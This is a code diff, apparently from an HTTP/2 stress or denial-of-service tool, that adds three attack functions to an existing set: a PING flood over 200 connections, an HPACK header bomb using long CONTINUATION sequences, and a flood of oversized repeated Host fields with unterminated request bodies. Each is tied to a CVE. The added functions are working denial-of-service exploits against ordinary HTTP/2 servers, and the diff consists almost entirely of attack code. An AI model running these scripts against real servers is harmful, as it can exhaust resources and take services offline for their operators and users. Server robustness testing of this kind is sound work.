@@ -56,6 +56,12 @@ def ping_flood(line: Line) -> Script:
     yield from forever(frame(PING, 0, b"together") * 2000)
 
 
+@attack(on=HTTP2, connections=200, reads=False)
+def ping_flood_of_many(line: Line) -> Script:
+    """CVE-2019-9512: the same over 200 connections, each of which may send before the server counts again."""
+    yield from ping_flood(line)
+
+
 @attack(on=(*HTTP2, *ADMIN), connections=20, reads=False)
 def settings_flood(line: Line) -> Script:
     """CVE-2019-9515: empty SETTINGS frames without end over 20 connections, whose acknowledgements are not read."""
@@ -215,6 +221,30 @@ def hpack_bomb(line: Line) -> Script:
     yield start(NO_WINDOW) + headers(1, asked + literal(b"x", b"y" * 4000, index=True))
     for stream in first_streams(line)[1:]:
         yield headers(stream, asked + b"\xbe" * 2000)
+
+
+@attack(on=HTTP2, connections=4)
+def long_hpack_bomb(line: Line) -> Script:
+    """CVE-2026-49975: header blocks of 400 KB, each byte of which stands for a field of the static table, or for a Host of 3,000
+    bytes. No body of a reply is taken."""
+    host = literal(b"host", b"x" * 3000, index=True)
+    fields = (b"\x90" if line.number % 2 else b"\xbe") * MAX_FRAME
+    yield start(NO_WINDOW)
+    for stream in first_streams(line):
+        yield headers(stream, line.target.block(), whole=False) + frame(CONTINUATION, stream, host)
+        yield frames.continuations(stream, fields, 25, end=True)
+
+
+@attack(on=HTTP2, connections=4, reads=False, exhausts=DEMO)
+def repeated_hosts(line: Line) -> Script:
+    """CVE-2019-18801: requests with 400 KB in 25 Host fields beside :authority; half of the connections send bodies without an
+    end. No answer is read."""
+    host = literal(b"host", b"x" * (MAX_FRAME - 144))
+    ends = line.number % 2 == 0
+    asked = line.target.block() if ends else open_block(line)
+    yield start(NO_WINDOW)
+    for stream in first_streams(line):
+        yield headers(stream, asked, end=ends, whole=False) + frames.continuations(stream, host, 25, end=True)
 
 
 @attack(on=HTTP2, connections=20)
